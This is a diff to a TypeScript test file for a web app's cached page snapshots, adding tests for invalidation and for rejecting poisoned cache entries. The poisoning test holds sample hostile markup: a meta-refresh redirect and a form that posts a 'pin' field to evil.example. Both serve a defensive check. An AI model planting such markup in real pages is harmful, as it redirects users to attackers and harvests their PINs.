@@ -2,7 +2,9 @@ import { beforeEach, describe, expect, it, vi } from 'vitest';
 import {
   clearOtherBuilds,
   clearSnapshots,
+  invalidateSnapshots,
   readSnapshot,
+  SNAPSHOT_MAX_CHARS,
   SNAPSHOT_LIMIT,
   writeSnapshot,
   type Snapshot,
@@ -33,6 +35,8 @@ const stores = new Map<string, FakeCache>();
 vi.stubGlobal('caches', {
   open: (name: string) => Promise.resolve(stores.get(name) ?? stores.set(name, new FakeCache()).get(name)),
   keys: () => Promise.resolve([...stores.keys()]),
+  match: (key: string, options: { cacheName: string }) =>
+    stores.get(options.cacheName)?.match(key) ?? Promise.resolve(undefined),
   delete: (name: string) => Promise.resolve(stores.delete(name)),
 });
 
@@ -44,6 +48,7 @@ const shot = (path: string): Snapshot => ({
   lang: 'en',
   renderKey: 'k',
   takenAt: 1,
+  code: '/assets/index-abc.js',
 });
 const kept = async (build: string) =>
   (await (await caches.open(`citylink-snapshots-${build}`)).keys()).map((r) => new URL(r.url).pathname);
@@ -85,6 +90,51 @@ describe('snapshots of screens', () => {
     expect(await readSnapshot('2', ORIGIN, '/')).toBeDefined();
     await clearSnapshots();
     expect([...stores.keys()]).toEqual(['citylink-images']);
+  });
+
+  it('are dropped on invalidation, and one taken before it and written after it is not read', async () => {
+    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 100 });
+    await invalidateSnapshots(ORIGIN, 200);
+    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
+    // A page that had not yet heard of the retraction writes the screen it read before it.
+    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 150 });
+    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
+    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 250 });
+    expect(await readSnapshot('1', ORIGIN, '/')).toBeDefined();
+  });
+
+  it('read as nothing when poisoned: markup the app does not write, or too large', async () => {
+    const cache = await caches.open('citylink-snapshots-1');
+    const poison = async (html: string) => {
+      await cache.put(`${ORIGIN}/contacts`, new Response(JSON.stringify({ ...shot('/contacts'), html })));
+      return readSnapshot('1', ORIGIN, '/contacts');
+    };
+    expect(await poison('<main><h1>Contacts</h1></main>')).toBeDefined();
+    expect(
+      await poison(
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><main><h1>Contacts</h1></main>',
+      ),
+    ).toBeUndefined();
+    expect(
+      await poison(
+        '<main><h1>Contacts</h1><form action="https://evil.example/"><input name="pin"></form></main>',
+      ),
+    ).toBeUndefined();
+    expect(
+      await poison(`<main><h1>Contacts</h1><p>${'x'.repeat(SNAPSHOT_MAX_CHARS)}</p></main>`),
+    ).toBeUndefined();
+    // 2 MB in the other fields: not even parsed.
+    await cache.put(
+      `${ORIGIN}/contacts`,
+      new Response(JSON.stringify({ ...shot('/contacts'), title: 'x'.repeat(2_000_000) })),
+    );
+    expect(await readSnapshot('1', ORIGIN, '/contacts')).toBeUndefined();
+    // Without the code that wrote it.
+    await cache.put(
+      `${ORIGIN}/contacts`,
+      new Response(JSON.stringify({ ...shot('/contacts'), code: undefined })),
+    );
+    expect(await readSnapshot('1', ORIGIN, '/contacts')).toBeUndefined();
   });
 
   it('read as nothing when the entry is not a snapshot of the address', async () => {
